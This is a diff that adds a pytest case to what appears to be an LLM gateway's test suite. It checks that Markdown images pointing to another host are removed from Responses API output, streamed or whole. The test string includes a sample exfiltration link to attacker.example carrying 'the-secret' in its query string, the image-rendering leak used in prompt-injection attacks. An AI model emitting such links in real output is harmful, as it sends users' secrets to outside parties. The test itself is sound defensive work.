@@ -235,6 +235,23 @@ def test_non_streamed_output_gets_the_same_rails(client):
     assert client.responses.retrieve(r.id).status == "incomplete"
 
 
+@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
+def test_an_image_on_another_host_is_defused_in_responses(client, stream):
+    """The Responses API's output text goes through the same image check as chat: a Markdown
+    image pointing elsewhere never reaches a client that renders it; a local one does."""
+    answer = "Done. ![s](https://attacker.example/p.png?d=the-secret) and ![logo](/static/logo.png) here."
+    script = f"[[chars-hex:{answer.encode().hex()[::-1]}]]"  # hex, so only the output rail sees the image
+    request = {"model": GUARDED, "input": [{"role": "system", "content": script}, {"role": "user", "content": "Go."}]}
+    if stream:
+        with client.responses.stream(**request) as events:
+            text = "".join(e.delta for e in events if e.type == "response.output_text.delta")
+            final = events.get_final_response().output_text
+    else:
+        text = final = client.responses.create(**request).output_text
+    expected = "Done. [external image removed] and ![logo](/static/logo.png) here."
+    assert text == expected and final == expected
+
+
 def test_file_search_cites_an_uploaded_file(tenant, gateway_url, engine_events):
     alice = tenant("alice")
     store = alice.vector_stores.create(name="alice-manuals")
